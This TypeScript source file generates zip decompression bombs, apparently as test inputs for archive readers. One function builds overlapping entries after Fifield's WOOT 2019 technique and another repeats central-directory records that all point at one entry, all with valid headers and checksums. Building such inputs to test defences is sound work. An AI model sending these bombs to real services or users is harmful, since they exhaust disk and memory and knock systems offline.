import { crc32, deflateRawSync } from "node:zlib";

/**
 * Entries that share their bytes: each one's data is a stored block that quotes the local header of the
 * next, and then the next one's own data, so that the whole tail of the archive is inflated once per
 * entry. Headers, names and checksums are all true. (David Fifield, "A better zip bomb", WOOT 2019.)
 */
export function overlappingBomb(entryCount: number, kernelBytes: number): Buffer {
  const kernel = Buffer.alloc(kernelBytes);
  let bytes = deflateRawSync(kernel);
  let content: Buffer = kernel;
  const files: Described[] = [];
  let tail = Buffer.alloc(0);
  for (let index = entryCount - 1; index >= 0; index--) {
    const name = `f${index}`;
    const file = { name, crc: crc32(content), packed: bytes.length, size: content.length };
    const header = localHeader(file);
    tail = Buffer.concat([header, bytes]);
    files.unshift({ ...file, fromEnd: tail.length });
    const quote = Buffer.alloc(5);
    quote.writeUInt16LE(header.length, 1);
    quote.writeUInt16LE(~header.length & 0xffff, 3);
    bytes = Buffer.concat([quote, tail]);
    content = Buffer.concat([header, content]);
  }
  return close(tail, files);
}

/** Every record of the directory points at one and the same entry. */
export function repeatedBomb(recordCount: number, kernelBytes: number): Buffer {
  const kernel = Buffer.alloc(kernelBytes);
  const bytes = deflateRawSync(kernel);
  const file = { name: "f", crc: crc32(kernel), packed: bytes.length, size: kernel.length };
  const body = Buffer.concat([localHeader(file), bytes]);
  return close(
    body,
    Array.from({ length: recordCount }, () => ({ ...file, fromEnd: body.length })),
  );
}

interface Described {
  readonly name: string;
  readonly crc: number;
  readonly packed: number;
  readonly size: number;
  /** Where its local header begins, counted from the end of all entries. */
  readonly fromEnd: number;
}

function common(file: Omit<Described, "fromEnd">): Buffer {
  const fields = Buffer.alloc(26);
  fields.writeUInt16LE(20, 0);
  fields.writeUInt16LE(0x800, 2);
  fields.writeUInt16LE(8, 4);
  fields.writeUInt32LE(file.crc, 10);
  fields.writeUInt32LE(file.packed, 14);
  fields.writeUInt32LE(file.size, 18);
  fields.writeUInt16LE(file.name.length, 22);
  return fields;
}

function localHeader(file: Omit<Described, "fromEnd">): Buffer {
  return Buffer.concat([Buffer.from("PK\x03\x04"), common(file), Buffer.from(file.name)]);
}

function close(body: Buffer, files: readonly Described[]): Buffer {
  const records = files.map((file) => {
    const record = Buffer.alloc(46);
    record.write("PK\x01\x02");
    record.writeUInt16LE(20, 4);
    common(file).copy(record, 6);
    record.writeUInt32LE(body.length - file.fromEnd, 42);
    return Buffer.concat([record, Buffer.from(file.name)]);
  });
  const directory = Buffer.concat(records);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06");
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, directory, end]);
}
